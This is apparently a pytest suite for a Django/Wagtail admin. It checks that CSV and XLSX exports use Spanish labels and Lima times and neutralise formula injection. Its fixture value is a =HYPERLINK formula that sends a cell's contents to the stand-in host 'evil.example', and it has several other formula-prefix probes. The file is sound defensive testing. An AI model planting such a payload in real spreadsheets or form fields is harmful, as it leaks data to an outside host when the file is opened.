"""Every spreadsheet a facilitator downloads opens correctly in Excel (UTF-8 with a byte
order mark, Spanish headings, labels instead of internal codes, "Sí"/"No", Lima times) and
carries no live formula (OWASP "CSV Injection"), ours and Wagtail's own reports alike."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin as WagtailSpreadsheetExportMixin
from wagtail.models import Page, PageLogEntry

from members.exports import SpreadsheetExportMixin, neutralise
from members.models import Sector
from tests.factories import (
    ContributionFactory,
    InstitutionFactory,
    MemberFactory,
    WorkshopFactory,
    district,
)
from tests.resources.library_helpers import make_resource
from tests.workshops.admin_helpers import register
from workshops.models import Commitment

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?d="&B3,"Ver")'
# 03:50 UTC on 4 December is 22:50 on 3 December in Lima.
UTC_TIME = datetime(2026, 12, 4, 3, 50, tzinfo=UTC)
LIMA_TEXT = "03/12/2026 22:50"


@pytest.mark.parametrize(
    "value",
    ["=1+2", "+51 953 000 111", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", EVIL],
)
def test_cells_that_start_a_formula_become_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Rosa Quispe", "", "Ilo = puerto", 42, None])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel garbles the accents"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def row_with(rows, text):
    matches = [row for row in rows[1:] if any(text in cell for cell in row)]
    assert matches, f"{text!r} not in {rows}"
    return dict(zip(rows[0], matches[0], strict=True))


def assert_no_live_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.fixture
def evil_member():
    institution = InstitutionFactory(name=EVIL, sector=Sector.CIVIL_SOCIETY)
    return MemberFactory(full_name=EVIL, institution=institution)


def test_institutions_export(facilitator_client, evil_member):
    InstitutionFactory(
        name="Municipalidad Provincial de Ilo", sector=Sector.GOVERNMENT_REGIONAL_LOCAL
    )
    rows = csv_rows(facilitator_client.get("/admin/institutions/", {"export": "csv"}))

    assert rows[0][:3] == ["Nombre", "Nombre corto", "Sector"]
    ilo = row_with(rows, "Municipalidad Provincial de Ilo")
    assert ilo["Sector"] == "Gobierno regional y local"
    assert ilo["Miembro del Grupo Núcleo"] == "No"
    evil = row_with(rows, "HYPERLINK")
    assert evil["Nombre"] == "'" + EVIL
    assert_no_live_formula(rows)


def test_contributions_export(facilitator_client, evil_member):
    ContributionFactory(title=EVIL, author=evil_member, districts=[district("torata")])
    response = facilitator_client.get("/admin/snippets/themes/contribution/", {"export": "csv"})
    rows = csv_rows(response)

    assert rows[0][:3] == ["Título", "Tema principal", "Tipo"]
    assert "Publicada" in rows[0]
    assert "Primera publicación (hora de Lima)" in rows[0]
    row = row_with(rows, "HYPERLINK")
    assert row["Título"] == "'" + EVIL
    assert row["Autor"] == "'" + EVIL
    assert row["Tipo"] == "Lección aprendida"  # not "lesson"
    assert row["Distritos"] == "Torata"  # names, not slugs or ids
    assert row["Visibilidad"] == "Pública"
    assert row["Publicada"] == "Sí"  # not "True"
    assert row["Archivada"] == "No"
    assert_no_live_formula(rows)


def test_contribution_first_published_in_lima_time(facilitator_client, member):
    contribution = ContributionFactory(author=member)
    type(contribution).objects.filter(pk=contribution.pk).update(first_published_at=UTC_TIME)
    rows = csv_rows(
        facilitator_client.get("/admin/snippets/themes/contribution/", {"export": "csv"})
    )
    assert row_with(rows, contribution.title)["Primera publicación (hora de Lima)"] == LIMA_TEXT


def test_library_export(facilitator_client):
    make_resource(EVIL, kind="guide", language="en")
    rows = csv_rows(
        facilitator_client.get("/admin/snippets/resources/resource/", {"export": "csv"})
    )

    row = row_with(rows, "HYPERLINK")
    assert row["Título"] == "'" + EVIL
    assert row["Tipo"] == "Guía"
    assert row["Idioma"] == "English"
    assert row["Publicada"] == "Sí"
    assert_no_live_formula(rows)


def test_workshops_export(facilitator_client):
    WorkshopFactory(title=EVIL, starts_at=UTC_TIME, city="-Ilo")
    rows = csv_rows(facilitator_client.get("/admin/workshops/", {"export": "csv"}))

    row = row_with(rows, "HYPERLINK")
    assert row["Título"] == "'" + EVIL
    assert row["Ciudad"] == "'-Ilo"
    assert row["Inicio (hora de Lima)"] == LIMA_TEXT
    assert row["Modalidad"] == "Presencial"
    assert row["Estado"] == "Inscripciones abiertas"
    assert_no_live_formula(rows)


def test_commitments_export(facilitator_client, evil_member):
    workshop = WorkshopFactory(title="Mesa de diálogo de Cuajone")
    Commitment.objects.create(
        workshop=workshop,
        description=EVIL,
        responsible_institution=evil_member.institution,
        due_date=date(2026, 12, 20),
    )
    rows = csv_rows(facilitator_client.get("/admin/workshop-commitments/", {"export": "csv"}))

    row = row_with(rows, "HYPERLINK")
    assert row["Acuerdo o compromiso"] == "'" + EVIL
    assert row["Institución responsable"] == "'" + EVIL
    assert row["Taller"] == "Mesa de diálogo de Cuajone"
    assert row["Fecha límite"] == "20/12/2026"
    assert row["Estado"] == "Pendiente"
    assert_no_live_formula(rows)


def test_participant_list_export(facilitator_client, evil_member):
    workshop = WorkshopFactory()
    register(workshop, user=evil_member, attended=True)
    url = f"/admin/workshops/registrations/{workshop.pk}/"
    rows = csv_rows(facilitator_client.get(url, {"export": "csv"}))

    assert rows[0] == ["Nombre", "Institución", "Sector", "Estado", "Asistió"]
    row = row_with(rows, "HYPERLINK")
    assert row["Nombre"] == "'" + EVIL
    assert row["Institución"] == "'" + EVIL
    assert row["Asistió"] == "Sí"
    assert_no_live_formula(rows)

    workbook = load_workbook(io.BytesIO(facilitator_client.get(url, {"export": "xlsx"}).getvalue()))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    evil_cells = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert evil_cells
    assert all(cell.data_type == "s" for cell in evil_cells)  # text, never a formula


def test_workshops_xlsx_has_lima_times_and_no_formula(facilitator_client):
    WorkshopFactory(title=EVIL, starts_at=UTC_TIME)
    response = facilitator_client.get("/admin/workshops/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    headings = [cell.value for cell in sheet[1]]
    row = dict(zip(headings, list(sheet[2]), strict=True))
    assert row["Título"].data_type == "s"
    assert row["Título"].value == EVIL
    assert row["Inicio (hora de Lima)"].value == datetime(2026, 12, 3, 22, 50)
    assert row["Estado"].value == "Inscripciones abiertas"


def test_wagtail_site_history_export_is_neutralised(admin_client, admin_user):
    page = Page.objects.get(depth=2)
    PageLogEntry.objects.log_action(page, "wagtail.edit", user=admin_user, title=EVIL)
    PageLogEntry.objects.filter(page=page).update(label=EVIL, timestamp=UTC_TIME)
    rows = csv_rows(admin_client.get("/admin/reports/site-history/", {"export": "csv"}))
    row = row_with(rows, "HYPERLINK")
    assert row["Nombre"] == "'" + EVIL
    assert row["Fecha/Hora"] == LIMA_TEXT
    assert_no_live_formula(rows)


def _admin_views():
    def walk(resolver, prefix=""):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                yield prefix + str(pattern.pattern), pattern.callback

    for path, callback in walk(get_resolver()):
        view_class = getattr(callback, "view_class", None)
        if view_class and issubclass(view_class, WagtailSpreadsheetExportMixin):
            list_export = getattr(callback, "view_initkwargs", {}).get(
                "list_export", view_class.list_export
            )
            if list_export:
                yield path, view_class


def test_every_export_of_ours_uses_the_shared_mixin():
    ours = [
        (path, view_class)
        for path, view_class in _admin_views()
        if not view_class.__module__.startswith("wagtail.")
    ]
    assert len(ours) >= 6
    for path, view_class in ours:
        assert issubclass(view_class, SpreadsheetExportMixin), (
            f"{path}: {view_class.__name__} exports without members.exports"
        )
